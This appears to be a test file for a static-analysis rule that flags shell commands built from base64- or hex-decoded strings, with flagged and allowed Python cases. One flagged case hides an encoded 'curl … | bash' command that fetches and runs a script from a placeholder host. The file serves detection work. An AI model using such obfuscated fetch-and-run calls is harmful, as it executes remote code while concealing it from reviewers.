import base64
import binascii
import os
import subprocess


def b64d(text):
    return base64.b64decode(text.encode("ascii")).decode("ascii")


def install_hook():
    # ruleid: shell-decoded-command
    os.system(b64d("Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3Iuc2ggfCBiYXNo"))


def stage():
    cmd = base64.b64decode("Y3VybCBleGFtcGxlLmludmFsaWQ=").decode()
    # ruleid: shell-decoded-command
    subprocess.Popen(cmd, shell=True)


def stage_hex():
    # ruleid: shell-decoded-command
    subprocess.run(["sh", "-c", binascii.unhexlify("6964").decode()])


def ok_plain():
    # ok: shell-decoded-command
    os.system("git status")


def ok_decoded_data():
    blob = base64.b64decode("aGVsbG8gd29ybGQ=")
    # ok: shell-decoded-command
    subprocess.run(["git", "commit", "-m", "release"], input=blob)


def ok_hash_argument():
    # ok: shell-decoded-command
    subprocess.run(["git", "checkout", "3f9a7c2b1d0e4f5a6b7c8d9e0f1a2b3c4d5e6f70"])


def ok_encoded_argument(state):
    arg = base64.b64encode(state)
    # ok: shell-decoded-command
    subprocess.check_call(["python", "-c", "print(1)", arg.decode()])


def ok_tool_path(Path):
    tool = Path("/usr/local/bin/claude")
    # ok: shell-decoded-command
    subprocess.run([str(tool), "--version"], check=True)
